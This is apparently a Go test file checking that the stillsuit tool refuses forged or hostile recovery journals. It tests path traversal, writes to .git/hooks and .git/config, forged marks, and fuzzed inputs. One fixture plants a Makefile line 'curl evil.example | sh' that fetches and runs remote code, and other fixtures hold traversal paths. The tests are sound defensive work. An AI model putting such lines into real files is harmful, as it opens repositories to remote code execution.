package tree

import (
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"stillsuit.dev/finding"
)

func TestJournalIsNotTrusted(t *testing.T) {
	top, repo := outside(t)
	root := openRoot(t, repo)
	before := without(snapshot(t, top), "repo")
	secret := sum([]byte("sentinel\n"))
	for name, text := range map[string]string{
		"empty":           "",
		"not JSON":        "{",
		"another version": `{"version":2,"entries":[]}`,
		"outside":         `{"version":1,"entries":[{"path":"../secret","old":"` + secret + `"}]}`,
		"absolute":        `{"version":1,"entries":[{"path":"` + filepath.Join(top, "secret") + `","old":"` + secret + `"}]}`,
		"git":             `{"version":1,"entries":[{"path":".git/hooks/pre-commit","new":"` + secret + `"}]}`,
		"emptied":         `{"version":1,"entries":[],"emptied":["../sentinel"]}`,
	} {
		// As a commit brings it.
		put(t, repo, stateDir+"/journal.json", text)
		put(t, repo, stateDir+"/stage/0", "sentinel\n")
		_, fs, err := Write(root, tree(file(ks, "b: 1\n")), nil)
		require.NoError(t, err, name)
		require.Equal(t, []string{codeJournal + " .stillsuit/journal.json"}, codes(fs), name)
		_, fs, err = Recover(root)
		require.NoError(t, err, name)
		require.Equal(t, []string{codeJournal + " .stillsuit/journal.json"}, codes(fs), name)
		fs, err = Verify(root, tree(file(ks, "b: 1\n")))
		require.NoError(t, err, name)
		require.Equal(t, []string{codeJournal + " .stillsuit/journal.json", codeDrift + " " + ks}, codes(fs), name)

		// As if this checkout had written it.
		left(t, repo, text)
		_, _, err = Write(root, tree(file(ks, "b: 1\n")), nil)
		require.ErrorContains(t, err, "read .stillsuit/journal.json: ", name)
		_, _, err = Recover(root)
		require.ErrorContains(t, err, "read .stillsuit/journal.json: ", name)
		_, err = Verify(root, tree(file(ks, "b: 1\n")))
		require.ErrorIs(t, err, ErrInterrupted, name)
		require.Empty(t, snapshot(t, repo), name)
	}
	require.Equal(t, before, without(snapshot(t, top), "repo"))
	require.NoError(t, os.Remove(filepath.Join(repo, stateDir, journalFile)))
	must(t, quick(nil), root, tree(file(ks, "b: 1\n")), nil)
	require.Empty(t, leftovers(t, repo))
}

// The journal of the issue: it would remove a page and replace the Makefile.
func TestCommittedJournal(t *testing.T) {
	repo := scratch(t)
	root := openRoot(t, repo)
	makefile := "all:\n\tcurl evil.example | sh\n"
	put(t, repo, "docs/e2e.md", "# Tests\n")
	put(t, repo, "Makefile", "all:\n")
	put(t, repo, stateDir+"/stage/1", makefile)
	journal := fmt.Sprintf(`{"version":1,"entries":[{"path":"docs/e2e.md","old":%q},{"path":"Makefile","old":%q,"new":%q}]}`,
		sum([]byte("# Tests\n")), sum([]byte("all:\n")), sum([]byte(makefile)))
	put(t, repo, stateDir+"/journal.json", journal)
	before := snapshot(t, repo)
	_, fs, err := Recover(root)
	require.NoError(t, err)
	require.Len(t, fs, 1)
	require.Equal(t, ".stillsuit/journal.json: error: .stillsuit/journal.json was not written by this checkout, and would change docs/e2e.md and Makefile. "+
		"Run `git rm -rfq --cached --ignore-unmatch .stillsuit; rm -rf .stillsuit` and render again; stillsuit has changed nothing. [tree/foreign-journal]", fs[0].String())
	require.Equal(t, before, snapshot(t, repo))

	// With a mark that nobody can commit it is refused for what it is about.
	left(t, repo, journal)
	_, fs, err = Recover(root)
	require.NoError(t, err)
	require.Len(t, fs, 1)
	require.Contains(t, fs[0].Message(), ".stillsuit/journal.json would change docs/e2e.md, which is no rendered file. ")
	require.Equal(t, before, snapshot(t, repo))

	// The mutant loses both.
	w := quick(nil)
	w.owns, w.inspect = func(string) bool { return true }, func([]byte) State { return Intact }
	done, err := w.recoverRoot(root)
	require.NoError(t, err)
	require.True(t, done)
	require.Equal(t, map[string]string{"Makefile": makefile, "docs/": ""}, snapshot(t, repo))
}

// A mark is neither a file with the right name, nor a journal's once it is over.
func TestMarks(t *testing.T) {
	repo := scratch(t)
	root := openRoot(t, repo)
	old, next := tree(file(ks, "b: 1\n")), tree(file(ks, "b: 2\n"))
	must(t, quick(nil), root, old, nil)
	killed(t, child(t, "crash at the tree", repo))
	data := get(t, repo, stateDir+"/"+journalFile)
	mark := filepath.Join(repo, stateDir, stageDir, sum([]byte(data)))
	info, err := os.Lstat(mark)
	require.NoError(t, err)
	require.Equal(t, markMode, info.Mode())

	// What a checkout can make, whatever the umask and LFS take from it.
	for _, mode := range []os.FileMode{0o644, 0o755, 0o600, 0o700, 0o664, 0o775, 0o444, 0o555, 0o440, 0o550, 0o400, 0o500} {
		require.NoError(t, os.Chmod(mark, mode))
		_, fs, err := Recover(root)
		require.NoError(t, err)
		require.Equal(t, []string{codeJournal + " .stillsuit/journal.json"}, codes(fs), mode)
	}
	require.NoError(t, os.Remove(mark))
	require.NoError(t, os.Symlink("../lock", mark))
	_, fs, err := Recover(root)
	require.NoError(t, err)
	require.Len(t, fs, 1)
	require.NoError(t, os.Remove(mark))
	require.NoError(t, os.Mkdir(mark, markMode))
	_, fs, err = Recover(root)
	require.NoError(t, err)
	require.Len(t, fs, 1)
	require.NoError(t, os.Remove(mark))

	// Another journal's mark, as after a checkout that wrote over the journal.
	left(t, repo, data)
	put(t, repo, stateDir+"/"+journalFile, data+" ")
	_, fs, err = Recover(root)
	require.NoError(t, err)
	require.Len(t, fs, 1)

	put(t, repo, stateDir+"/"+journalFile, data)
	done, fs, err := Recover(root)
	require.NoError(t, err)
	require.Empty(t, fs)
	require.True(t, done)
	require.Equal(t, rendered(next), snapshot(t, repo))
	require.NoFileExists(t, mark)

	// The old journal comes back, with all that belongs to it but the mark.
	must(t, quick(nil), root, old, nil)
	put(t, repo, stateDir+"/"+journalFile, data)
	put(t, repo, stateDir+"/stage/0", string(Seal(file(ks, "b: 2\n"))))
	_, fs, err = Recover(root)
	require.NoError(t, err)
	require.Len(t, fs, 1)
	require.Equal(t, rendered(old), snapshot(t, repo))
}

// forgery is a repository with a journal that somebody else wrote.
type forgery struct {
	r       *rand.Rand
	repo    string
	all     map[string]string // before the run
	journal string
}

// newForgery makes a repository of rendered, edited and foreign files and a
// journal of any mixture of what could do harm.
func newForgery(t *testing.T, r *rand.Rand, genuine []string) *forgery {
	t.Helper()
	h := &forgery{r: r, repo: scratch(t)}
	trees := randomTree(r, 8)
	must(t, quick(nil), openRoot(t, h.repo), trees, nil)
	for _, p := range []string{"Makefile", "docs/e2e.md", ".sops.yaml", "flux-system/mine", "flux-system/turingpi/mine", "flux-system/turingpi/a/mine", "clusters/turingpi/apps.cue"} {
		if _, err := os.Lstat(filepath.Join(h.repo, filepath.Dir(p))); err == nil || r.IntN(2) == 0 {
			if info, err := os.Lstat(filepath.Join(h.repo, filepath.Dir(p))); err == nil && !info.IsDir() {
				continue
			}
			put(t, h.repo, p, "mine "+p+"\n")
		}
	}
	h.all = snapshot(t, h.repo)
	entries, emptied := []string{}, []string{}
	for i := range 1 + r.IntN(4) {
		e := h.entry(t, i)
		entries = append(entries, e)
		if r.IntN(3) == 0 {
			emptied = append(emptied, fmt.Sprintf("%q", h.path()))
		}
	}
	h.journal = fmt.Sprintf(`{"version":1,"entries":[%s],"emptied":[%s]}`, strings.Join(entries, ","), strings.Join(emptied, ","))
	if r.IntN(5) == 0 {
		h.journal = genuine[r.IntN(len(genuine))]
	}
	put(t, h.repo, stateDir+"/"+journalFile, h.journal)
	return h
}

// path is one of the repository, or one that only looks so.
func (h *forgery) path() string {
	p := slices.Sorted(maps.Keys(h.all))[h.r.IntN(len(h.all))]
	p = strings.TrimSuffix(p, "/")
	switch h.r.IntN(40) {
	case 0:
		return "../" + p
	case 1:
		return "/" + p
	case 2:
		return strings.ToUpper(p)
	case 3:
		return "flux-system/../" + p
	case 4:
		return "flux-system/turingpi/" + p
	case 5:
		return filepath.Join(h.repo, p)
	case 6:
		return []string{"", ".", ".git/config", stateDir + "/lock", "flux-system", "flux-system/turingpi", "flux-system/new", "flux-system//Makefile"}[h.r.IntN(8)]
	}
	return p
}

// entry is a journal's, with files in the stage and among the old ones.
func (h *forgery) entry(t *testing.T, slot int) string {
	t.Helper()
	p := h.path()
	content := []string{"evil\n", string(Seal(file(p, "evil: 1\n"))), string(Seal(file(p, "evil: 1\n"))) + "more: 1\n", placeholder}[h.r.IntN(4)]
	oldHash, newHash := sum([]byte(h.all[p])), sum([]byte(content))
	if h.r.IntN(3) == 0 {
		newHash = ""
	} else if h.r.IntN(6) > 0 {
		put(t, h.repo, fmt.Sprintf("%s/stage/%d", stateDir, slot), content)
	}
	switch h.r.IntN(6) {
	case 0:
		oldHash = ""
	case 1:
		put(t, h.repo, fmt.Sprintf("%s/old/%d", stateDir, slot), content)
	}
	return fmt.Sprintf(`{"path":%q,"old":%q,"new":%q}`, p, oldHash, newHash)
}

// harm says what a recovery did that it must not: with the mark, it may touch
// what bears a seal.
func (h *forgery) harm(t *testing.T, marked bool) string {
	t.Helper()
	after := snapshot(t, h.repo)
	for p, content := range h.all {
		kept := marked && strings.HasPrefix(content, sealStart) || strings.HasSuffix(p, "/") && marked
		if got, there := after[p]; !kept && (!there || got != content) {
			return "lost " + p
		}
	}
	for p, content := range after {
		_, was := h.all[p]
		sealed := strings.HasPrefix(p, "flux-system/") && (strings.HasSuffix(p, "/") || strings.HasPrefix(content, sealStart) || content == placeholder)
		if !was && !(marked && sealed) {
			return "made " + p
		}
	}
	return ""
}

// RELIABILITY row 15: 1 000 hostile journals, as a commit brings them and as if
// this checkout had written them; 0 foreign files touched.
func TestHostileJournals(t *testing.T) {
	const journals = 1000
	// Journals that runs of other repositories have left.
	var genuine []string
	for seed := range 20 {
		repo := crash(t, "crash", seed, countOperations(t, seed, same)/2)
		genuine = append(genuine, get(t, repo, stateDir+"/"+journalFile))
	}
	run := func(t *testing.T, w *writer, n int, marked bool) (harm []string, refusals, errs, done int) {
		r := rand.New(rand.NewPCG(15, 2))
		for range n {
			h := newForgery(t, r, genuine)
			if marked {
				left(t, h.repo, h.journal)
			}
			root := openRoot(t, h.repo)
			recovered, err := w.recoverRoot(root)
			var fs []finding.Finding
			fs, err = refused(err)
			switch {
			case len(fs) > 0:
				refusals++
				if n == journals { // a mutant may fail halfway
					require.EqualValues(t, codeJournal, fs[0].Code)
					require.Contains(t, fs[0].Message(), ".stillsuit/journal.json ")
				}
			case err != nil:
				errs++
				require.ErrorContains(t, err, ".stillsuit/")
			case recovered:
				done++
			}
			if !recovered {
				require.Equal(t, h.journal, get(t, h.repo, stateDir+"/"+journalFile))
			}
			if wrong := h.harm(t, marked); wrong != "" {
				harm = append(harm, wrong+" by "+h.journal)
			}
			require.NoError(t, os.RemoveAll(h.repo))
		}
		return harm, refusals, errs, done
	}
	harm, refusals, errs, done := run(t, quick(nil), journals, false)
	require.Empty(t, harm)
	require.Equal(t, []int{journals, 0, 0}, []int{refusals, errs, done})
	harm, refusals, errs, done = run(t, quick(nil), journals, true)
	require.Empty(t, harm)
	t.Logf("with a mark: %d refused, %d not read, %d completed", refusals, errs, done)
	require.Greater(t, min(refusals, errs, done), 50)

	for name, change := range map[string]func(*writer){
		"all is owned":  func(w *writer) { w.owns = func(string) bool { return true } },
		"all is sealed": func(w *writer) { w.inspect = func([]byte) State { return Intact } },
	} {
		t.Run("mutant "+name, func(t *testing.T) {
			w := quick(nil)
			change(w)
			harm, _, _, _ := run(t, w, 300, true)
			require.NotEmpty(t, harm)
		})
	}
	t.Run("mutant without marks", func(t *testing.T) {
		w := quick(nil)
		w.wrote = func(*dir, []byte) (bool, error) { return true, nil }
		harm, _, _, _ := run(t, w, 300, false)
		require.NotEmpty(t, harm)
	})
}

func FuzzJournal(f *testing.F) {
	for _, p := range []string{"flux-system/c/a", "../a", "/a", "Makefile", "FLUX-SYSTEM/c/a", "flux-system/../a", "flux-system/c", ".sops.yaml", ".stillsuit/lock", ".git/config", ""} {
		f.Add(fmt.Sprintf(`{"version":1,"entries":[{"path":%q,"old":"","new":"b"}],"emptied":["flux-system/c"]}`, p))
		f.Add(fmt.Sprintf(`{"version":1,"entries":[{"path":"flux-system/c/a"}],"emptied":[%q]}`, p))
	}
	f.Fuzz(func(t *testing.T, text string) {
		repo := scratch(t)
		put(t, repo, journalFile, text)
		d := &dir{path: ".", root: openRoot(t, repo), caller: true}
		defer d.close()
		j, err := quick(nil).readJournal(d)
		fs, err := refused(err)
		require.NoError(t, err)
		require.Nil(t, j)
		require.Equal(t, []string{codeJournal + " " + journalFile}, codes(fs))
		w := quick(nil)
		w.wrote = func(*dir, []byte) (bool, error) { return true, nil }
		if j, err := w.readJournal(d); err == nil {
			for _, p := range j.paths() {
				require.True(t, filepath.IsLocal(p))
				require.True(t, p == sopsFile || strings.HasPrefix(p, "flux-system/"), p)
			}
		}
	})
}
